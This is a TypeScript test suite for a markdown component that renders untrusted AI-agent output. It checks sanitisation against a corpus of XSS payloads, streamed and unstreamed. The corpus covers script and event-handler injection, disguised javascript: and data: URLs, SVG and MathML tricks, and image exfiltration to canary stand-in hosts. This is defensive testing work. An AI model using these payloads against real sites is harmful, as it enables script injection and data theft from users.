// Agent output is untrusted: an XSS corpus rendered in real Chromium, one-shot and streamed in small
// chunks. Pass: no script runs, no on* attribute and no element outside what markdown renders, every
// href/src inside the policy, no request to a canary host, no CSP violation.
import { expect, waitUntil } from '@open-wc/testing';
import '../../src/markdown/define.js';
import { Agent37Markdown } from '../../src/markdown/agent37-markdown.js';
import { entityTableLoaded } from '../../src/markdown/html-entities.js';
import { seededRandom } from '../../src/simulator/seeded-random.js';
import { allElements, prefixes, settled } from './markdown-dom.js';

declare global {
  interface Window {
    __xss?: unknown;
  }
}

// Same server, another origin: requests to it show up in resource timing, so the canary is observable.
const CANARY = `http://${location.hostname === '127.0.0.1' ? 'localhost' : '127.0.0.1'}:${location.port}/canary`;
const IMAGE_ORIGINS = ['https://img.example.com'];
const X = 'window.__xss=1';

const vectors: string[] = [
  // script and style
  `<script>${X}</script>`,
  `Inline <script>${X}</script> in a paragraph.`,
  `<SCRIPT SRC=${CANARY}/x.js></SCRIPT>`,
  `<script src="http://canary.invalid/x.js"></script>`,
  `<scr<script>ipt>${X}</script>`,
  `<style>@import '${CANARY}/import.css';</style>`,
  `<style>*{background:url(${CANARY}/bg.png)}</style>`,
  `<link rel="stylesheet" href="${CANARY}/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${X}">`,
  `<base href="${CANARY}/">`,
  // event handlers
  `<img src=x onerror="${X}">`,
  `<img src="${CANARY}/onerror.png" onerror=${X}>`,
  `<svg onload=${X}>`,
  `<body onload=${X}>`,
  `<div onmouseover="${X}">hover</div>`,
  `<a href="https://example.com" onclick="${X}">x</a>`,
  `<input autofocus onfocus=${X}>`,
  `<details open ontoggle=${X}>`,
  `<video><source onerror="${X}"></video>`,
  `<img src=x onerror=&#119;indow.__xss=1>`,
  `[x](https://example.com "title" onclick="${X}")`,
  `[x](https://example.com"onmouseover="${X})`,
  `![x" onerror="${X}](${CANARY}/alt.png)`,
  `[<img src=x onerror=${X}>](https://example.com)`,
  `<!--><img src=x onerror=${X}>-->`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
  `<template><img src=x onerror=${X}></template>`,
  // javascript:, vbscript:, data: with entity, case, tab and newline obfuscation
  `[a](javascript:${X})`,
  `[a](JAVASCRIPT:${X})`,
  `[a](JaVaScRiPt:${X})`,
  `[a](javascript&#58;${X})`,
  `[a](javascript&colon;${X})`,
  `[a](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${X})`,
  `[a](&#x6A;avascript:${X})`,
  `[a](java&#x09;script:${X})`,
  `[a](java&#x0A;script:${X})`,
  `[a](java&#13;script:${X})`,
  `[a](&#0;javascript:${X})`,
  `[a](&#x01;javascript:${X})`,
  `[a](<javascript:${X}>)`,
  `[a](  javascript:${X}  )`,
  `[a](javascript://%0A${X})`,
  `[a](%6A%61%76%61%73%63%72%69%70%74:${X})`,
  `[a](jav\u00adascript:${X})`,
  `[a](\u0001javascript:${X})`,
  `[a](vbscript:msgbox(1))`,
  `[a](VBScript:msgbox(1))`,
  `[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)`,
  `[a](data:text/html,<script>${X}</script>)`,
  `[a](DaTa:text/html,x)`,
  `<a href="javascript:${X}">raw html link</a>`,
  `<form action="javascript:${X}"><button>go</button></form>`,
  // SVG and MathML
  `<svg><script>${X}</script></svg>`,
  `<svg><a xlink:href="javascript:${X}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><image href="${CANARY}/svg.png"/></svg>`,
  `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${X}>`,
  `<math href="javascript:${X}">click</math>`,
  // iframes and objects
  `<iframe src="${CANARY}/frame.html"></iframe>`,
  `<iframe src="javascript:${X}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="${CANARY}/o.swf"></object>`,
  `<embed src="${CANARY}/e.swf">`,
  // reference-style and autolink forms
  `[a][x]\n\n[x]: javascript:${X}`,
  `[a][x]\n\n[x]: <javascript:${X}> "t"`,
  `[x]\n\n[x]: vbscript:msgbox(1)`,
  `[a][x]\n\n[x]: data:text/html,hi`,
  `![i][x]\n\n[x]: ${CANARY}/ref.png`,
  `<javascript:${X}>`,
  `<vbscript:msgbox(1)>`,
  `<data:text/html,hi>`,
  `javascript:${X}`,
  `www.canary.invalid/x`,
  // image exfiltration
  `![x](${CANARY}/exfil.png?secret=1)`,
  `![x](http://canary.invalid/exfil.png)`,
  `![x](https://canary.invalid/exfil.png)`,
  `![x](//canary.invalid/exfil.png)`,
  `![x](${CANARY}/title.png "title")`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9feHNzPTE+)`,
  `![x](data:image/png;base64,iVBORw0KGgo=)`,
  `![x](https://img.example.com@canary.invalid/x.png)`,
  `![x](https://canary.invalid\\@img.example.com/x.png)`,
  `[![x](${CANARY}/nested.png)](https://example.com)`,
  `<img src="${CANARY}/raw.png">`,
  `<img srcset="${CANARY}/srcset.png 1x">`,
  `<picture><source srcset="${CANARY}/picture.png"></picture>`,
  `<video poster="${CANARY}/poster.png"></video>`,
  `<audio src="${CANARY}/a.mp3"></audio>`,
  `<table background="${CANARY}/t.png"><tr><td>x</td></tr></table>`,
  `<input type="image" src="${CANARY}/input.png">`,
  // in every markdown context
  `| a |\n|---|\n| <img src=x onerror=${X}> [b](javascript:${X}) ![c](${CANARY}/cell.png) |`,
  `- <script>${X}</script>\n- [a](javascript:${X})\n- ![c](${CANARY}/item.png)`,
  `# <img src=x onerror=${X}> ![h](${CANARY}/heading.png)`,
  `> [a](javascript:${X})\n> ![q](${CANARY}/quote.png)`,
  '```js" onmouseover="window.__xss=1\ncode\n```',
  '```<script>window.__xss=1</script>\nx\n```',
  '`<script>window.__xss=1</script>`',
  `[a](https://example.com "<script>${X}</script>")`,
  `&lt;script&gt;${X}&lt;/script&gt;`,
  // unfinished while streaming
  `Partial ![x](${CANARY}/partial.png`,
  `Partial [a](javascript:${X}`,
];

const ALLOWED_TAGS = new Set(
  'div p h1 h2 h3 h4 h5 h6 ul ol li blockquote hr a img strong em del code pre br table thead tbody tr th td input span button agent37-code-block'.split(' '),
);
const LINK_PROTOCOLS = /^(https|http|mailto):/;

function policyBreaches(element: Agent37Markdown): string[] {
  const breaches: string[] = [];
  for (const node of allElements(element)) {
    if (!ALLOWED_TAGS.has(node.localName)) breaches.push(`<${node.localName}>`);
    for (const attribute of node.attributes) {
      if (/^on/i.test(attribute.name)) breaches.push(`${node.localName}[${attribute.name}]`);
    }
    const href = node.getAttribute('href');
    if (href !== null && !LINK_PROTOCOLS.test(href)) breaches.push(`href=${href}`);
    const src = node.getAttribute('src');
    if (src !== null && !IMAGE_ORIGINS.includes(new URL(src, 'http://relative.invalid/').origin)) breaches.push(`src=${src}`);
  }
  return breaches;
}

describe('XSS corpus', () => {
  const requested: string[] = [];
  const violations: string[] = [];
  let observer: PerformanceObserver;
  const onViolation = (event: SecurityPolicyViolationEvent) => violations.push(`${event.violatedDirective} ${event.blockedURI}`);

  before(() => {
    observer = new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) requested.push(entry.name);
    });
    observer.observe({ type: 'resource', buffered: true });
    document.addEventListener('securitypolicyviolation', onViolation);
  });

  after(() => {
    observer.disconnect();
    document.removeEventListener('securitypolicyviolation', onViolation);
  });

  const canaryRequests = () => requested.filter((name) => name.startsWith(CANARY) || name.includes('canary.invalid'));

  it(`holds at least 60 vectors (${vectors.length})`, () => {
    expect(vectors.length).to.be.at.least(60);
  });

  // The full table of named references is a chunk loaded on the first uncommon name; until it is in,
  // such a reference stays as written. `&name;` cannot be part of a scheme, so no URL gets through then.
  it('keeps schemes spelled with named references out of links while the entity table loads, and after', async () => {
    expect(entityTableLoaded(), 'nothing in this file loaded the table before').to.equal(false);
    const breaches: string[] = [];
    // checks the policy after every render of its text, not just the last one
    class CheckedMarkdown extends Agent37Markdown {
      renders: Array<{ tableIn: boolean; hrefs: Array<string | null> }> = [];
      protected override updated(changed: Map<PropertyKey, unknown>): void {
        super.updated(changed);
        breaches.push(...policyBreaches(this).map((b) => `${JSON.stringify(this.text)}: ${b}`));
        const hrefs = [...this.shadowRoot!.querySelectorAll('a')].map((a) => a.getAttribute('href'));
        this.renders.push({ tableIn: entityTableLoaded(), hrefs });
      }
    }
    customElements.define('checked-markdown', CheckedMarkdown);
    const spelled = [
      `[a](javascript&colon;${X})`,
      `[a](JavaScript&colon;${X})`,
      `[a](java&Tab;script:${X})`,
      `[a](&NewLine;javascript:${X})`,
      `[a](javascript&#x3a;${X})`,
      `![a](javascript&colon;${X})`,
      `[a](vbscript&colon;msgbox(1))`,
      `[a](data&colon;text/html,hi)`,
      `[a][r]\n\n[r]: javascript&colon;${X}`,
      `<javascript&colon;${X}>`,
    ];
    // once decoded, this one is an https link: the element renders it again with its href
    const harmless = '[a](https&colon;//example.com/ok)';
    const elements = [...spelled, harmless].map((text) => {
      const element = document.createElement('checked-markdown') as CheckedMarkdown;
      element.imageOrigins = IMAGE_ORIGINS;
      element.text = text;
      document.body.append(element);
      return element;
    });
    try {
      await Promise.all(elements.map(settled));
      expect(breaches).to.deep.equal([]);
      expect(entityTableLoaded()).to.equal(true);
      for (const element of elements.slice(0, -1)) expect(element.renders.flatMap((render) => render.hrefs)).to.deep.equal([]);
      const renders = elements.at(-1)!.renders;
      expect(renders.some((render) => !render.tableIn && !render.hrefs.length), 'rendered without a link before the table').to.equal(true);
      expect(renders.at(-1)).to.deep.equal({ tableIn: true, hrefs: ['https://example.com/ok'] });
      expect(window.__xss).to.equal(undefined);
    } finally {
      for (const element of elements) element.remove();
    }
  });

  for (const mode of ['one-shot', 'streamed'] as const) {
    it(`renders every vector ${mode} without running script, leaving the policy or requesting the canary`, async function () {
      this.timeout(120_000);
      const container = document.createElement('div');
      document.body.prepend(container);
      try {
        const elements = vectors.map((vector) => {
          const element = document.createElement('agent37-markdown');
          element.imageOrigins = IMAGE_ORIGINS;
          element.streaming = mode === 'streamed';
          if (mode === 'one-shot') element.text = vector;
          container.append(element);
          return element;
        });
        if (mode === 'streamed') {
          const steps = vectors.map((vector, index) => prefixes(vector, seededRandom(index + 1), 4));
          const rounds = Math.max(...steps.map((s) => s.length));
          for (let round = 0; round < rounds; round++) {
            const pending: Array<Promise<unknown>> = [];
            elements.forEach((element, index) => {
              const text = steps[index]![round];
              if (text === undefined) return;
              element.text = text;
              pending.push(element.updateComplete);
            });
            await Promise.all(pending);
            const breaches = elements.flatMap((element, index) => policyBreaches(element).map((b) => `#${index} ${b}`));
            expect(breaches, `round ${round}`).to.deep.equal([]);
          }
          for (const element of elements) element.streaming = false;
        }
        await Promise.all(elements.map(settled));

        const breaches = elements.flatMap((element, index) => policyBreaches(element).map((b) => `#${index} ${JSON.stringify(vectors[index])}: ${b}`));
        expect(breaches).to.deep.equal([]);

        // a request the test makes itself shows the canary is watched; then nothing else may be there
        const control = new Image();
        control.src = `${CANARY}/control-${mode}.png`;
        await waitUntil(() => canaryRequests().some((name) => name.includes(`control-${mode}`)), 'the canary control request was not observed', {
          timeout: 10_000,
        });
        await new Promise((resolve) => setTimeout(resolve, 300));
        expect(canaryRequests().filter((name) => !name.includes('/control-'))).to.deep.equal([]);
        expect(window.__xss).to.equal(undefined);
        expect(violations).to.deep.equal([]);
      } finally {
        container.remove();
      }
    });
  }

  it('keeps raw HTML as visible text', async () => {
    const element = document.createElement('agent37-markdown');
    element.text = vectors[0]!;
    document.body.append(element);
    await settled(element);
    expect(element.shadowRoot!.textContent).to.contain(`<script>${X}</script>`);
    element.remove();
  });
});
